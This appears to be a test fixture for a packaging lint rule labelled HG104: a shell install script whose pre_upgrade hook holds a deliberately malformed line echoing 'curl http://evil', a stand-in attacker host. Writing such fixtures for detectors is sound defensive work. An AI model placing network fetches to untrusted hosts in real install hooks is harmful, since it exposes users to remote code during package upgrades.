# rule: HG104
pre_upgrade() {
    a=(1)echo curl http://evil
}
post_upgrade() {
    return 0
}
